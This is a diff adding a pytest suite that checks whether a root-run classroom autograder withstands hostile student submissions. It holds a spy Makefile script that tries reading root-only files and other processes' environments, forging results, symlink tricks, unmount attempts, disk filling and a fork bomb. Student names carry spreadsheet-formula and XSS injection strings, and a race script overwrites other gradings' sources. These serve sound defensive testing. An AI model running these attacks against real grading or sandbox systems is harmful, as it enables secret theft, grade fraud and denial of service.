@@ -1,0 +1,503 @@
+"""Grading integrity (issue 14): a hostile student can neither raise their
+grade, nor read what is not theirs, nor stop the class.
+
+Every attack is a submission, graded the way an instructor grades: a class
+(`make grade CLASS=`) and one submission as root (`make grade SUBMISSION=`,
+which is what Gradescope's run_autograder runs). Each test ends with the same
+questions: the student's true score; nothing read that is not theirs (the
+secrets planted around them are in none of their reports); no file changed
+outside their scratch copy; no process left; the rest of the class graded as
+it would be without them.
+
+The spy (spy_step) is one Makefile that tries every attack in turn and prints
+one word per success (READ, LISTED, REACHED, SEES, FORGED...), then PROBES
+DONE: a test that finds that line and none of those words knows that each
+attack ran and failed.
+"""
+
+import csv
+import hashlib
+import html
+import json
+import os
+import re
+import secrets
+import shutil
+import socket
+import stat
+import subprocess
+import sys
+import time
+import urllib.parse
+from pathlib import Path
+
+import pytest
+
+from conftest import KIT, PROGRAMS, install, registry
+
+CLIENT, SERVER = registry.find("01"), registry.find("02")
+PYTHON = "/usr/bin/python3"  # what a student's Makefile finds on every Debian
+MAX_TASKS = 64  # the process limit these gradings run with (SOCKLAB_MAX_TASKS): the spy tries more
+DISK_MIB = 48  # the private disk these gradings run with (SOCKLAB_DISK_MIB): the spy tries more
+SUCCESS_WORDS = ("READ ", "LISTED ", "REACHED ", "SEES ", "FORGED ", "OVERWROTE ", "UNMOUNTED ")
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the defences under test are those of a grader run as root")
+
+
+# === What a hostile student must never see, change or leave ====================
+
+
+class World:
+    """The secrets and canaries planted around a grading, and the checks that
+    they were neither read, nor changed, nor left behind."""
+
+    def __init__(self, tmp_path):
+        self.token = secrets.token_hex(6)
+        vault = tmp_path / "vault"  # root's own: no student uid may read it, only root following a link
+        vault.mkdir(mode=0o700)
+        self.secret_file = vault / "shadow"
+        self.secret_file.write_text(f"root-only secret {self.token}-shadow\n")
+        os.chmod(self.secret_file, 0o600)
+        self.instructor = f"{self.token}-instructor"  # INSTRUCTOR_TOKEN in the grader's environment
+        self.sentinels = {}  # label -> file planted in a kit folder a student must not read
+        for label, folder in (("build", KIT / "build"), ("dist", KIT / "dist")):
+            folder.mkdir(exist_ok=True)
+            path = folder / f"security-sentinel-{self.token}"
+            path.write_text(f"{label} sentinel {self.token}-{label}\n")
+            self.sentinels[label] = path
+        self.canary = KIT / "build" / f"security-canary-{self.token}"
+        self.canary.write_text("still here\n")
+        self.pwned = KIT / "build" / f"security-pwned-{self.token}"
+        self.leftover_files = [Path(d) / f"socklab-leftover-{self.token}" for d in ("/tmp", "/var/tmp", "/dev/shm")]
+        self.listener = socket.socket()  # a service on the host's loopback, which a student must not reach
+        self.listener.bind(("127.0.0.1", 0))
+        self.listener.listen(8)
+        self.listener.setblocking(False)
+        self.kit_before = fingerprint(KIT / "steps", KIT / "solutions", KIT / "grader")
+
+    @property
+    def port(self):
+        return self.listener.getsockname()[1]
+
+    def secrets(self):
+        """Strings that must be in no report of a hostile student."""
+        found = [self.secret_file.read_text().strip(), self.instructor]
+        found += [path.read_text().strip() for path in self.sentinels.values()]
+        found.append(solution_line())
+        return found
+
+    def env(self, **extra):
+        env = dict(os.environ, INSTRUCTOR_TOKEN=self.instructor, SOCKLAB_MAX_TASKS=str(MAX_TASKS), SOCKLAB_DISK_MIB=str(DISK_MIB))
+        env.pop("SOCKLAB_STUDENT_UID", None)
+        env.update(extra)
+        return env
+
+    def check_untouched(self):
+        """Nothing changed outside the scratch copies, nothing left behind."""
+        assert self.canary.read_text() == "still here\n", "a student deleted a file of the kit"
+        assert not self.pwned.exists(), "a student wrote into the kit"
+        assert fingerprint(KIT / "steps", KIT / "solutions", KIT / "grader") == self.kit_before, "the kit changed"
+        left = [str(p) for p in self.leftover_files if p.exists()]
+        assert not left, f"files left behind by a student: {left}"
+        try:
+            self.listener.accept()
+            raise AssertionError("a student program connected to a service on the host's loopback")
+        except BlockingIOError:
+            pass
+        assert processes_with(self.token) == [], "processes left running"
+
+    def close(self):
+        self.listener.close()
+        for path in [self.canary, self.pwned, *self.sentinels.values(), *self.leftover_files]:
+            try:
+                path.unlink()
+            except OSError:
+                pass
+
+
+@pytest.fixture
+def world(tmp_path):
+    w = World(tmp_path)
+    yield w
+    w.close()
+
+
+def solution_line():
+    """A line of the reference client that a starter does not hold."""
+    ours = (KIT / "solutions" / CLIENT.folder / "client.c").read_text().splitlines()
+    theirs = set((KIT / "steps" / CLIENT.folder / "client.c").read_text().splitlines())
+    return next(line.strip() for line in ours if len(line.strip()) > 30 and line not in theirs)
+
+
+def fingerprint(*folders):
+    digest = hashlib.sha256()
+    for folder in folders:
+        for root, dirs, files in sorted(os.walk(folder)):
+            dirs[:] = sorted(d for d in dirs if d != "__pycache__")
+            for name in sorted(files):
+                path = os.path.join(root, name)
+                st = os.lstat(path)
+                digest.update(f"{path} {st.st_mode}".encode())
+                if stat.S_ISREG(st.st_mode):
+                    with open(path, "rb") as f:
+                        digest.update(f.read())
+    return digest.hexdigest()
+
+
+def processes_with(token, wait=5.0):
+    """Processes whose command line holds token, once those ending have ended."""
+    deadline = time.monotonic() + wait
+    while True:
+        found = []
+        for entry in os.listdir("/proc"):
+            try:
+                if entry.isdigit() and token in Path(f"/proc/{entry}/cmdline").read_bytes().decode(errors="replace"):
+                    found.append(entry)
+            except OSError:
+                pass
+        if not found or time.monotonic() > deadline:
+            return found
+        time.sleep(0.2)
+
+
+def processes_of(uids, wait=5.0):
+    """Processes still running as one of these uids."""
+    deadline = time.monotonic() + wait
+    while True:
+        found = []
+        for entry in os.listdir("/proc"):
+            try:
+                if entry.isdigit() and os.stat(f"/proc/{entry}").st_uid in uids:
+                    found.append(entry)
+            except OSError:
+                pass
+        if not found or time.monotonic() > deadline:
+            return found
+        time.sleep(0.2)
+
+
+# === The spy: every attack of the issue in one Makefile =========================
+
+
+FORGED_REPORT = json.dumps(
+    {"score": 20, "execution_time": 1, "output": "forged", "tests": [
+        {"name": f"{s.folder}: builds with make", "number": f"{s.number}.0", "score": s.points, "max_score": s.points,
+         "status": "passed", "output": "", "tags": [s.folder]} for s in (CLIENT, SERVER)]}
+)  # fmt: skip
+
+
+def spy_step(parent, world, reads=(), lists=()):
+    """A step folder 01-client whose Makefile tries every attack, then fails.
+    reads / lists: (label, path) pairs of files to read, folders to list."""
+    folder = parent / CLIENT.folder
+    folder.mkdir(parents=True)
+    probes = "\n".join(f"read_probe {label} '{path}'" for label, path in reads)
+    probes += "\n" + "\n".join(f"list_probe {label} '{path}'" for label, path in lists)
+    t = world.token
+    script = f"""exec 2>&1
+read_probe() {{ if cat "$2" >/dev/null 2>&1; then echo "READ $1"; fi; }}
+list_probe() {{ if [ -n "$(ls -A "$2" 2>/dev/null)" ]; then echo "LISTED $1"; fi; }}
+for d in '{KIT}/solutions' '{KIT}/tests' '{KIT}/.git' '{KIT}/build'; do umount "$d" 2>/dev/null && echo "UNMOUNTED $d"; done
+{probes}
+env | grep -q '{world.instructor}' && echo "READ instructor-environment"
+cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q '{world.instructor}' && echo "READ environment-of-others"
+# forge: an output folder above us (a class grading's)
+d=$PWD
+while [ "$d" != / ]; do
+  d=$(dirname "$d")
+  for o in "$d/out" "$d"; do
+    if [ -f "$o/results.json" ] || [ "$(basename "$o")" = out ]; then
+      if printf '%s' '{FORGED_REPORT}' > "$o/results.json" 2>/dev/null; then
+        ln -sf '{world.secret_file}' "$o/junit.xml"; chmod 555 "$o"; echo "FORGED $o"
+      fi
+    fi
+  done
+done
+# notes the grader reads as root, for the next step
+ln -sf '{world.secret_file}' ../.{SERVER.folder}.socklab-note 2>/dev/null
+mkdir -p ../{SERVER.folder} 2>/dev/null && ln -sf '{world.secret_file}' ../{SERVER.folder}/.socklab-note 2>/dev/null
+# the kit: delete, write
+rm -f '{world.canary}' 2>/dev/null; touch '{world.pwned}' 2>/dev/null
+for f in {" ".join(f"'{p}'" for p in world.leftover_files)}; do echo left > "$f"; done
+{PYTHON} - <<'EOF'
+import os, socket, sys, time
+try:
+    socket.create_connection(("127.0.0.1", {world.port}), timeout=2).close()
+    print("REACHED host-loopback")
+except OSError:
+    pass
+for line in open("/proc/net/dev").read().splitlines()[2:]:
+    if line.split(":")[0].strip() != "lo":
+        print("SEES interface", line.split(":")[0].strip())
+wrote = 0
+try:
+    while wrote < 3 * {DISK_MIB}:
+        with open(f"filler-{{wrote}}", "wb") as f:
+            f.write(b"x" * (8 << 20))
+        wrote += 8
+except OSError as e:
+    print("disk full:", e.strerror)
+print("WROTE", wrote, "MiB")
+forked = 0
+try:
+    for _ in range(3 * {MAX_TASKS}):
+        if os.fork() == 0:
+            os.execv("{PYTHON}", ["{PYTHON}", "-c", "import time; time.sleep(600)", "{t}"])
+        forked += 1
+except OSError as e:
+    print("fork failed:", e.strerror)
+print("FORKED", forked)
+sys.stdout.flush()
+EOF
+setsid {PYTHON} -c 'import time; time.sleep(600)' '{t}' </dev/null >/dev/null 2>&1 &
+echo "PROBES DONE"
+kill -9 -1
+"""
+    (folder / "attack.sh").write_text(script)
+    (folder / "Makefile").write_text("client:\n\t@sh ./attack.sh\n\tfalse\n")
+    return folder
+
+
+def spy_said(text):
+    """The spy's own account: which attacks worked, and its figures."""
+    assert "PROBES DONE" in text, "the spy's attacks did not all run:\n" + text[-3000:]
+    worked = [line.strip() for line in text.splitlines() if any(w in line for w in SUCCESS_WORDS) and "probe" not in line]
+    wrote = max([int(n) for n in re.findall(r"WROTE (\d+) MiB", text)] or [0])
+    forked = max([int(n) for n in re.findall(r"FORKED (\d+)", text)] or [0])
+    return worked, wrote, forked
+
+
+def no_secrets(texts, world):
+    for name, text in texts.items():
+        for secret in world.secrets():
+            assert secret not in text, f"{name} holds what the student must not read: {secret!r}"
+
+
+# === One submission, graded as root =============================================
+
+
+def grade_alone(submission, out, world, steps=(CLIENT,), valgrind=False, timeout=300):
+    command = [sys.executable, "-m", "grader", "grade", "--submission", str(submission), "--out", str(out), "--all-details"]
+    for step in steps:
+        command += ["--step", step.folder]
+    env = world.env(SOCKLAB_VALGRIND="1" if valgrind else "0")
+    return subprocess.run(command, cwd=KIT, env=env, capture_output=True, text=True, timeout=timeout)
+
+
+def reports_of(out):
+    return {p.name: p.read_text(errors="replace") for p in Path(out).iterdir() if p.is_file()}
+
+
+def test_alone_as_root_the_spy_gets_nothing(tmp_path, world):
+    """make grade SUBMISSION= as root (Gradescope's case): notes planted as
+    links, the host's loopback, the instructor's environment, the kit's
+    answers, disk, processes, files left in /tmp: none of it works."""
+    submission = tmp_path / "sub"
+    reads = [("solutions", KIT / "solutions" / CLIENT.folder / "client.c"), ("tests", KIT / "tests" / "conftest.py"),
+             ("build", world.sentinels["build"]), ("dist", world.sentinels["dist"]), ("vault", world.secret_file)]  # fmt: skip
+    spy_step(submission, world, reads=reads, lists=[("solutions", KIT / "solutions")])
+    (submission / SERVER.folder).mkdir()
+    (submission / SERVER.folder / "Makefile").write_text("server:\n\tfalse\n")
+    out = tmp_path / "out"
+    done = grade_alone(submission, out, world, steps=(CLIENT, SERVER))
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    results = json.loads((out / "results.json").read_text())
+    assert results["score"] == 0
+    worked, wrote, forked = spy_said(results["tests"][0]["output"])
+    assert worked == [], f"attacks that worked: {worked}"
+    assert wrote <= DISK_MIB, f"the spy wrote {wrote} MiB, more than the {DISK_MIB} MiB it may"
+    assert forked < MAX_TASKS, f"the spy started {forked} processes, more than the {MAX_TASKS} it may"
+    no_secrets({**reports_of(out), "console": done.stdout + done.stderr}, world)
+    world.check_untouched()
+
+
+# === A class with hostile students among honest ones ===========================
+
+
+def grade_class(klass, out, world, steps=(CLIENT,), valgrind=False, jobs=2, budget=120):
+    command = [sys.executable, "-m", "grader", "class", str(klass), "--out", str(out), "--jobs", str(jobs), "--budget", str(budget)]
+    for step in steps:
+        command += ["--step", step.folder]
+    env = world.env(SOCKLAB_VALGRIND="1" if valgrind else "0")
+    done = subprocess.run(command, cwd=KIT, env=env, capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    with open(out / "gradebook.csv", newline="") as f:
+        book = {row["student"]: row for row in csv.DictReader(f)}
+    return done, book
+
+
+def student_out(out, name):
+    """The folder of a student's reports in OUT, as the class report links it
+    (a name that is one of OUT's own files is not the folder's name)."""
+    page = (Path(out) / "index.html").read_text()
+    for link, shown in re.findall(r"<a href='([^']*)/feedback.txt'>([^<]*)</a>", page):
+        if html.unescape(shown) == name:
+            return Path(out) / urllib.parse.unquote(html.unescape(link))
+    raise AssertionError(f"the class report links no feedback for {name!r}")
+
+
+def honest(parent, name):
+    """A student who did step 01 well: the reference client, with a marker
+    of their own in it (other students must not read it)."""
+    folder = parent / name / CLIENT.folder
+    shutil.copytree(KIT / "solutions" / CLIENT.folder, folder)
+    with open(folder / "client.c", "a") as f:
+        f.write(f"/* {name}'s own work */\n")
+    return parent / name
+
+
+def uids_of(results_text):
+    return {int(n) for n in re.findall(r"programs run as uid (\d+)", results_text)}
+
+
+def test_a_class_with_spies_grades_the_honest_student_as_alone(tmp_path, world):
+    """A class of four: an honest student, a spy named index.html (every
+    attack: forged results.json, a junit.xml link to a root-only file, the
+    kit's .git/build/dist, the class folder, OUT, the instructor's
+    environment, disk, processes), a submission that is a link to the kit's
+    solutions, one that is a link to the honest student's folder."""
+    klass, out = tmp_path / "class", tmp_path / "out"
+    alice = honest(klass, f"alice-{world.token}")
+    git = KIT / ".git"
+    reads = [("solutions", KIT / "solutions" / CLIENT.folder / "client.c"), ("tests", KIT / "tests" / "conftest.py"),
+             ("build", world.sentinels["build"]), ("dist", world.sentinels["dist"]), ("vault", world.secret_file),
+             ("git", git / "HEAD" if git.is_dir() else git), ("classmate", alice / CLIENT.folder / "client.c")]  # fmt: skip
+    lists = [("class-folder", klass), ("out", out), ("solutions", KIT / "solutions")]
+    spy_step(klass / "index.html", world, reads=reads, lists=lists)
+    thief = klass / "=HYPERLINK(\"evil.example\")"
+    thief.mkdir()
+    (thief / "steps").symlink_to(KIT / "solutions")
+    copycat = klass / "<img src=x onerror=alert(1)>\ncopycat"
+    copycat.mkdir()
+    (copycat / "steps").symlink_to(f"../{alice.name}")
+    before = fingerprint(klass)
+    done, book = grade_class(klass, out, world, jobs=2)
+
+    assert set(book) == {alice.name, "index.html", thief.name, copycat.name}
+    assert book[alice.name]["total"] == "10", (student_out(out, alice.name) / "feedback.txt").read_text()[-3000:]
+    alice_results = json.loads((student_out(out, alice.name) / "results.json").read_text())
+    assert all(t["status"] == "passed" for t in alice_results["tests"])
+    for name in ("index.html", thief.name, copycat.name):
+        assert book[name]["total"] == "0", f"{name!r} scored {book[name]['total']}"
+    spy = reports_of(student_out(out, "index.html"))
+    worked, wrote, forked = spy_said(spy["feedback.txt"])
+    assert worked == [], f"attacks that worked: {worked}"
+    assert wrote <= DISK_MIB and forked < MAX_TASKS, (wrote, forked)
+    for name in (thief.name, copycat.name):
+        feedback = (student_out(out, name) / "feedback.txt").read_text()
+        assert "symbolic link" in feedback and "not followed" in feedback, feedback[-2000:]
+    for name in ("index.html", thief.name, copycat.name):
+        texts = reports_of(student_out(out, name))
+        no_secrets(texts, world)
+        assert not any(alice.name in text for text in texts.values()), f"{name!r} saw alice's name"
+    # the class report and the gradebook keep every name as text
+    page = (out / "index.html").read_text()
+    assert "<img src=x" not in page and "&lt;img src=x" in page
+    rows = (out / "gradebook.csv").read_text()
+    assert '"=HYPERLINK' not in rows and "'=HYPERLINK" in rows, rows
+    assert fingerprint(klass) == before, "the class folder changed"
+    world.check_untouched()
+    uids = set().union(*(uids_of((student_out(out, n) / "results.json").read_text()) for n in book))
+    assert uids and processes_of(uids) == [], "processes left running as a student's uid"
+
+
+# === Forged evidence, a FIFO for a program =====================================
+
+
+HOSTILE = PROGRAMS / "hostile"
+MEMORY = "memory check (valgrind)"
+
+
+def forger(parent):
+    """A client that leaks (its one bug) and forges valgrind's report."""
+    folder = parent / CLIENT.folder
+    folder.mkdir(parents=True)
+    shutil.copy(PROGRAMS / "bugs" / "01-client-leaks-buffers.c", folder / "client.c")
+    shutil.copy(HOSTILE / "forge-valgrind.c", folder)
+    (folder / "Makefile").write_text("client: client.c forge-valgrind.c\n\t$(CC) -std=c17 -O2 -g -o $@ client.c forge-valgrind.c\n")
+    return parent
+
+
+def fifo(parent):
+    """make leaves a FIFO where the program should be."""
+    folder = parent / CLIENT.folder
+    folder.mkdir(parents=True)
+    (folder / "Makefile").write_text("client:\n\tmkfifo client\n\tchmod +x client\n")
+    return parent
+
+
+def only_memory_fails(results):
+    failed = [t["name"] for t in results["tests"] if t["status"] != "passed"]
+    assert failed == [f"{CLIENT.folder}: {MEMORY}"], f"failed: {failed}"
+    memory = next(t for t in results["tests"] if t["name"].endswith(MEMORY))
+    assert results["score"] == pytest.approx(CLIENT.points - memory["max_score"])
+
+
+def test_alone_as_root_valgrind_cannot_be_fooled(tmp_path, world):
+    submission, out = forger(tmp_path / "sub"), tmp_path / "out"
+    done = grade_alone(submission, out, world, valgrind=True)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    only_memory_fails(json.loads((out / "results.json").read_text()))
+    world.check_untouched()
+
+
+def test_alone_as_root_a_fifo_for_a_program_is_a_verdict(tmp_path, world):
+    started = time.monotonic()
+    grade_alone(fifo(tmp_path / "sub"), tmp_path / "out", world, valgrind=True, timeout=120)  # valgrind: the grader opens the program
+    assert time.monotonic() - started < 60
+    results = json.loads((tmp_path / "out" / "results.json").read_text())
+    assert results["score"] == 0
+    assert "FIFO" in results["tests"][0]["output"], results["tests"][0]["output"]
+
+
+def test_a_class_with_a_forger_and_a_fifo(tmp_path, world):
+    """valgrind on: the honest student passes everything, the forger fails
+    only the memory check (its leak), the FIFO is a build failure."""
+    klass, out = tmp_path / "class", tmp_path / "out"
+    alice = honest(klass, f"alice-{world.token}")
+    forger(klass / "forger")
+    fifo(klass / "fifo")
+    done, book = grade_class(klass, out, world, valgrind=True)
+    assert book[alice.name]["total"] == "10", (student_out(out, alice.name) / "feedback.txt").read_text()[-3000:]
+    only_memory_fails(json.loads((student_out(out, "forger") / "results.json").read_text()))
+    assert book["fifo"]["total"] == "0"
+    assert "FIFO" in (student_out(out, "fifo") / "feedback.txt").read_text()
+    world.check_untouched()
+
+
+# === Two gradings at once ======================================================
+
+
+def test_two_gradings_at_once_cannot_touch_each_other(tmp_path, world):
+    """Two `make grade SUBMISSION=` as root at the same time: the attacker
+    overwrites every client.c it can find for 8 s, while the victim's build
+    waits 3 s before compiling."""
+    victim = honest(tmp_path, "victim")
+    makefile = victim / CLIENT.folder / "Makefile"
+    makefile.write_text(makefile.read_text().replace("client: client.c\n\t", "client: client.c\n\tsleep 3\n\t"))
+    attacker = tmp_path / "attacker" / CLIENT.folder
+    attacker.mkdir(parents=True)
+    (attacker / "attack.sh").write_text(
+        "end=$(($(date +%s) + 8))\n"
+        'while [ "$(date +%s)" -lt "$end" ]; do\n'
+        "  for f in $(find /tmp /var/tmp /dev/shm -maxdepth 4 -name client.c -path '*01-client*' 2>/dev/null); do\n"
+        '    case "$f" in "$PWD"/*) continue;; esac\n'
+        "    echo 'int main(void) { return 3; }' > \"$f\" 2>/dev/null && echo \"OVERWROTE $f\"\n"
+        "  done\n"
+        "  sleep 0.2\n"
+        "done\n"
+        'echo "PROBES DONE"\n'
+    )
+    (attacker / "Makefile").write_text("client:\n\t@sh ./attack.sh\n\tfalse\n")
+    command = lambda who: [sys.executable, "-m", "grader", "grade", "--submission", str(tmp_path / who), "--out",
+                           str(tmp_path / f"out-{who}"), "--step", CLIENT.folder]  # fmt: skip
+    env = world.env(SOCKLAB_VALGRIND="0")
+    runs = [subprocess.Popen(command(who), cwd=KIT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for who in ("attacker", "victim")]
+    outputs = [run.communicate(timeout=300)[0] for run in runs]
+    victim_results = json.loads((tmp_path / "out-victim" / "results.json").read_text())
+    assert victim_results["score"] == CLIENT.points, outputs[1][-3000:]
+    attack = json.loads((tmp_path / "out-attacker" / "results.json").read_text())["tests"][0]["output"]
+    assert spy_said(attack)[0] == []
+    mine, theirs = (uids_of(json.dumps(json.loads((tmp_path / f"out-{w}" / "results.json").read_text()))) for w in ("attacker", "victim"))
+    assert mine and theirs and not mine & theirs, f"both gradings ran as uid {mine}"
+    world.check_untouched()
